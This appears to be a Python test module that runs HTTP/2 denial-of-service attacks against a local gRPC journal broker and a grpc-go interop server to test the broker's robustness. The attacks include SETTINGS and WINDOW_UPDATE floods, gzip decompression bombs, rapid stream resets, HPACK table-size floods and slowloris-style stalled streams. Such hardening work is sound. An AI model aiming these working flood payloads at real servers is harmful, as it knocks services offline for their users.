"""Attacks on HTTP/2, each a process: ``python -m tests.hostile.attacks NAME PORT SECONDS SERVICE TOKEN``.

An attack goes on until its time is over, over as many connections as it wants. A connection that is ended is
made again, so that a broker cannot help itself by ending it.
"""

from __future__ import annotations

import gzip
import socket
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, replace
from typing import Final

from gazette.http2 import frames as fr
from gazette.http2.frames import FaultCode
from gazette.http2.headers import encode_fields
from gazette.protocol.pb import broker_pb2
from gazette.runtime.clock import SystemClock

JOURNAL: Final = "a/journal"
"""A journal that is there."""
HEADS: Final = 10_000
CLOCK: Final = SystemClock()
SLEEP: Final = threading.Event()
"""Is never set."""
PAUSE_S: Final = 0.2
TIMEOUT_S: Final = 5.0
LONGEST: Final = 4 << 20


def begun(stream: int, block: bytes, flags: int = fr.END_HEADERS) -> bytes:
    return fr.frame(fr.HEADERS, flags, stream, block)


def message(content: bytes, *, compressed: bool = False) -> bytes:
    return bytes([compressed]) + len(content).to_bytes(4, "big") + content


def data(stream: int, content: bytes, *, ended: bool = False) -> bytes:
    out = b""
    for at in range(0, len(content), fr.FRAME_BYTES_MIN):
        part = content[at : at + fr.FRAME_BYTES_MIN]
        last = ended and at + len(part) == len(content)
        out += fr.frame(fr.DATA, fr.END_STREAM if last else 0, stream, part)
    return out


def hello(**settings: int) -> bytes:
    return fr.PREFACE + fr.settings({getattr(fr, name): value for name, value in settings.items()})


@dataclass(frozen=True)
class Service:
    """The methods to call: ``put`` takes a stream of messages, ``ask`` takes one."""

    put: str
    ask: str
    asked: bytes
    """The message of ``ask``."""
    opening: bytes
    """The first message of ``put``."""
    rest: bytes
    """Its other messages."""
    token: str = ""
    """Empty: none."""

    def head(self, method: str, *more: tuple[str, str]) -> bytes:
        """Return the header block of a call. It adds nothing to the peer's table."""
        fields = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", method),
            ("content-type", "application/grpc"),
            *((("authorization", f"Bearer {self.token}"),) if self.token else ()),
            *more,
        ]
        return encode_fields((name.encode(), value.encode()) for name, value in fields)


SERVICES: Final = {
    "journals": Service(
        "/protocol.Journal/Append",
        "/protocol.Journal/List",
        message(broker_pb2.ListRequest().SerializeToString()),
        message(broker_pb2.AppendRequest(journal=JOURNAL).SerializeToString()),
        message(broker_pb2.AppendRequest(content=b"x").SerializeToString()) + message(b""),
    ),
    # Of the interop server of grpc-go: the yardstick. A payload of one byte is field 1, with its body.
    "interop": Service(
        "/grpc.testing.TestService/StreamingInputCall",
        "/grpc.testing.TestService/EmptyCall",
        message(b""),
        message(b""),
        message(b"\x0a\x03\x12\x01x") + message(b""),
    ),
}
Attack = Callable[[Service], Iterator[bytes]]
"""Yields what to send, one connection after the other."""


def settings(service: Service) -> Iterator[bytes]:
    """Change all windows of many streams, thousands of times in a frame."""
    block = service.head(service.put)
    yield hello() + b"".join(begun(2 * n + 1, block) for n in range(HEADS))
    values = b"".join(
        fr.INITIAL_WINDOW_SIZE.to_bytes(2, "big") + (n % 2).to_bytes(4, "big") for n in range(2_730)
    )
    while True:
        yield 16 * fr.frame(fr.SETTINGS, 0, 0, values)


def updates(service: Service) -> Iterator[bytes]:
    """Let the answers of many calls wait for the window of the connection, and open it byte by byte."""
    block = service.head(service.ask)
    yield hello(INITIAL_WINDOW_SIZE=1 << 20) + b"".join(
        begun(2 * n + 1, block) + data(2 * n + 1, service.asked, ended=True) for n in range(HEADS)
    )
    while True:
        yield 500 * fr.window_update(0, 1)


def bombs(service: Service) -> Iterator[bytes]:
    """Send messages that are a thousand times as large as they seem."""
    bomb = message(gzip.compress(bytes(LONGEST - 64)), compressed=True)
    block = service.head(service.put, ("grpc-encoding", "gzip"))
    out = hello()
    for n in range(26):
        out += (
            begun(2 * n + 1, block) + data(2 * n + 1, service.opening) + data(2 * n + 1, 100 * bomb)
        )
    yield out
    while True:
        yield b""


def lists(service: Service) -> Iterator[bytes]:
    """Ask for all journals, as fast as the connection carries it."""
    block, at = service.head(service.ask), 0
    yield hello(INITIAL_WINDOW_SIZE=fr.WINDOW_MAX) + fr.window_update(0, 1 << 30)
    while True:
        streams = range(at, at + 500)
        yield b"".join(
            begun(2 * n + 1, block) + data(2 * n + 1, service.asked, ended=True) for n in streams
        )
        at += 500


def appends(service: Service) -> Iterator[bytes]:
    """Append a few bytes to a journal, as fast as the connection carries it."""
    block, at = service.head(service.put), 0
    content = service.opening + service.rest
    yield hello(INITIAL_WINDOW_SIZE=fr.WINDOW_MAX) + fr.window_update(0, 1 << 30)
    while True:
        streams = range(at, at + 500)
        yield b"".join(
            begun(2 * n + 1, block) + data(2 * n + 1, content, ended=True) for n in streams
        )
        at += 500


def resets(service: Service) -> Iterator[bytes]:
    """Begin calls, send a byte, and take them back."""
    block, at = service.head(service.put), 0
    yield hello()
    while True:
        yield b"".join(
            begun(2 * n + 1, block)
            + data(2 * n + 1, b"\0")
            + fr.rst_stream(2 * n + 1, FaultCode.CANCEL)
            for n in range(at, at + 500)
        )
        at += 500


def made_resets(service: Service) -> Iterator[bytes]:
    """Begin calls, send a byte, and let the server reset them."""
    block, at = service.head(service.put), 0
    yield hello()
    while True:
        yield b"".join(
            begun(2 * n + 1, block) + data(2 * n + 1, b"\0") + fr.window_update(2 * n + 1, 0)
            for n in range(at, at + 500)
        )
        at += 500


def tables(service: Service) -> Iterator[bytes]:
    """Change the size of the table, thousands of times in a block."""
    block, at = (b"\x20\x3f\xe1\x1f" * 3_500) + service.head(service.ask), 0
    yield hello()
    while True:
        yield b"".join(
            begun(2 * n + 1, block, fr.END_HEADERS | fr.END_STREAM) for n in range(at, at + 20)
        )
        at += 20


def unfinished(service: Service) -> Iterator[bytes]:
    """Begin one call on each connection, and send nothing of it."""
    yield hello() + begun(1, service.head(service.ask))
    while True:
        yield b""


def declared(service: Service) -> Iterator[bytes]:
    """Announce the largest messages, and send none of them."""
    block = service.head(service.put)
    out = hello()
    for n in range(64):
        out += begun(2 * n + 1, block) + data(2 * n + 1, LONGEST.to_bytes(5, "big"))
    yield out
    for n in range(64):  # Nearly all of it.
        yield b"".join(data(2 * n + 1, bytes(3 << 18)) for _ in range(5))
    while True:
        yield b""


def parts(service: Service) -> Iterator[bytes]:
    """Send large messages byte by byte, between frames that make each reading long."""
    block = service.head(service.put)
    streams = range(1, 200, 2)
    yield hello() + b"".join(
        begun(n, block) + data(n, service.opening + (1 << 20).to_bytes(5, "big")) for n in streams
    )
    while True:
        yield b"".join(data(n, b"x") for n in streams) * 20


ATTACKS: Final[dict[str, tuple[Attack, int]]] = {
    "settings": (settings, 2),
    "updates": (updates, 2),
    "bombs": (bombs, 4),
    "lists": (lists, 2),
    "appends": (appends, 2),
    "resets": (resets, 2),
    "made_resets": (made_resets, 2),
    "tables": (tables, 2),
    "unfinished": (unfinished, 300),
    "declared": (declared, 8),
    "parts": (parts, 2),
}
"""Each attack, and the number of its connections."""


def _drain(one: socket.socket) -> None:
    with suppress(OSError):
        while one.recv(1 << 16):
            pass
        one.close()


def _run(attack: Attack, port: int, service: Service, until: float) -> None:
    while CLOCK.monotonic() < until:
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), TIMEOUT_S) as one:
            one.settimeout(None)
            threading.Thread(target=_drain, args=(one,), daemon=True).start()
            for part in attack(service):
                one.sendall(part)
                if CLOCK.monotonic() > until:
                    return
                if not part:
                    SLEEP.wait(PAUSE_S)
                    one.getpeername()  # Raises once the connection is gone.
        SLEEP.wait(PAUSE_S)


def main(name: str, port: str, seconds: str, service: str, token: str = "") -> None:
    attack, connections = ATTACKS[name]
    called = replace(SERVICES[service], token=token)
    until = CLOCK.monotonic() + float(seconds)
    threads = [
        threading.Thread(target=_run, args=(attack, int(port), called, until), daemon=True)
        for _ in range(connections)
    ]
    for thread in threads:
        thread.start()
    SLEEP.wait(max(0.0, until - CLOCK.monotonic()))


if __name__ == "__main__":
    main(*sys.argv[1:])
